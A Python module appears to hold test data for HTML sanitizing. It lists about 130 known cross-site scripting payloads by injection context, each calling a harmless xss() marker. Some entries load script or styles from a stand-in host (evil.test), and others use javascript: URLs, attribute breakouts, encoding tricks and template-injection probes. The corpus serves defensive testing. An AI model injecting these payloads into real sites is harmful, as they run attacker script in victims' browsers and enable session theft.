"""Texts that run a script where a page lets them: each calls `xss()`, if anything at all.

Those that are known from the collections of OWASP, PortSwigger and html5sec, by what they break out
of: text, attributes, addresses, styles, scripts, comments, templates.
"""

_CALL = "xss()"
# In text: elements that run something by themselves.
_ELEMENTS = (
    "<script>{c}</script>", "<SCRIPT>{c}</SCRIPT>", "<script >{c}</script >", "<script/x>{c}</script>",
    "<script type=module>{c}</script>", "<script src=data:text/javascript,{c}></script>",
    "<script src=//evil.test/x.js></script>", "<<script>{c}//<</script>", "<script>{c}",
    "<scr<script>ipt>{c}</scr</script>ipt>", "<img src=x onerror={c}>", "<img/src=x/onerror={c}>",
    "<IMG SRC=x OnErRoR={c}>", "<img src onerror={c}>", "<img src='x' onerror='{c}'>",
    '<img src="x" onerror="{c}">', "<img src=`x` onerror={c}>", "<image src=x onerror={c}>",
    "<svg onload={c}>", "<svg/onload={c}>", "<svg><script>{c}</script></svg>",
    "<svg><animate onbegin={c} attributeName=x dur=1s>", "<svg><set onbegin={c} attributename=x>",
    "<svg><a xlink:href='javascript:{c}'><text y=9>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror={c}></foreignObject></svg>",
    "<math><mtext></mtext><script>{c}</script></math>", "<math href='javascript:{c}'>x</math>",
    "<body onload={c}>", "<body onpageshow={c}>", "<iframe src='javascript:parent.{c}'></iframe>",
    "<iframe srcdoc='<script>parent.{c}</script>'></iframe>", "<iframe onload={c}></iframe>",
    "<object data='javascript:{c}'></object>", "<embed src='javascript:{c}'>",
    "<video><source onerror={c}></video>", "<video src=x onerror={c}></video>",
    "<audio src=x onerror={c}></audio>", "<input autofocus onfocus={c}>",
    "<textarea autofocus onfocus={c}></textarea>", "<select autofocus onfocus={c}></select>",
    "<button autofocus onfocus={c}>x</button>", "<a href=# autofocus onfocus={c}>x</a>",
    "<details open ontoggle={c}>x</details>", "<marquee onstart={c}>x</marquee>",
    "<div tabindex=0 autofocus onfocus={c}>x</div>", "<p contenteditable autofocus onfocus={c}>x</p>",
    "<style onload={c}></style>", "<link rel=stylesheet href=x onerror={c}>",
    "<style>@import '//evil.test/x.css';</style>", "<base href='//evil.test/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{c}'>", "<form><button formaction='javascript:{c}'>x",
    "<dialog open onclose={c}><form method=dialog><button autofocus>x", "<template><script>{c}</script></template>",
    "<noscript><img src=x onerror={c}></noscript>", "<frameset onload={c}>", "<keygen autofocus onfocus={c}>",
    "<isindex type=image src=x onerror={c}>", "<custom-x onanimationend={c}>x</custom-x>",
    "<p id=x style='animation:x' onanimationstart={c}>x</p>",
)  # fmt: skip
# In attributes, out of which they lead.
_ATTRIBUTES = (
    '" onload="{c}', "' onload='{c}", '" autofocus onfocus="{c}', "' autofocus onfocus='{c}",
    '" onmouseover="{c}', "x onerror={c}", '"><script>{c}</script>', "'><script>{c}</script>",
    '"><img src=x onerror={c}>', "'><img src=x onerror={c}>", "`><img src=x onerror={c}>",
    '" style="animation:x" onanimationstart="{c}', "'/><svg/onload={c}>", '"/><svg/onload={c}>',
    '" accesskey="x" onclick="{c}', '"></title><script>{c}</script>', '"><base href="//evil.test/">',
    '" content="0;url=javascript:{c}" http-equiv="refresh', "\"'><img src=x onerror={c}>",
    '" srcdoc="<script>parent.{c}</script>', '" href="javascript:{c}', "' href='javascript:{c}",
)  # fmt: skip
# In addresses, scripts, styles, comments, and elements whose text is no markup.
_PLACES = (
    "javascript:{c}", "JaVaScRiPt:{c}", "java\tscript:{c}", "javascript&colon;{c}", "javascript:{c}//http://x",
    "data:text/html,<script>parent.{c}</script>", "vbscript:{c}", "&#106;avascript:{c}", "\u2028{c}",
    "</script><script>{c}</script>", "</ScRiPt><script>{c}</script>", "<!--<script>", "--><script>{c}</script>",
    "--!><script>{c}</script>", "<!--><img src=x onerror={c}>", "]]><script>{c}</script>",
    "<![CDATA[<script>{c}</script>]]>", "</title><script>{c}</script>", "</textarea><script>{c}</script>",
    "</style><script>{c}</script>", "</noscript><script>{c}</script>", "</iframe><script>{c}</script>",
    "</template><script>{c}</script>", "</code></pre><script>{c}</script>", "</svg><script>{c}</script>",
    "<?xml version='1.0'?><script>{c}</script>", "<?php {c} ?><img src=x onerror={c}>",
    "';{c};//", '";{c};//', "${{{c}}}", "`${{{c}}}`", "\\'-{c}//", "\\u003cscript\\u003e{c}\\u003c/script\\u003e",
    "{{{{ {c} }}}}", "{{% raw %}}<script>{c}</script>", "{{{{ ''.__class__ }}}}", "%(title)s %s {{0}}<script>{c}</script>",
    "&lt;script&gt;{c}&lt;/script&gt;", "&amp;lt;script&amp;gt;{c}", "&#60;script&#62;{c}&#60;/script&#62;",
    "%3Cscript%3E{c}%3C/script%3E", "\uff1cscript\uff1e{c}\uff1c/script\uff1e", "+ADw-script+AD4-{c}+ADw-/script+AD4-",
    "<a href=javascript:{c}>x</a>", "<a href='&#x6a;avascript:{c}'>x</a>", "<a href=' javascript:{c}'>x</a>",
    "\u202e<script>{c}</script>\u202c", "<\u200bscript>{c}</script>",
)  # fmt: skip
PAYLOADS = tuple(text.format(c=_CALL) for text in (*_ELEMENTS, *_ATTRIBUTES, *_PLACES))
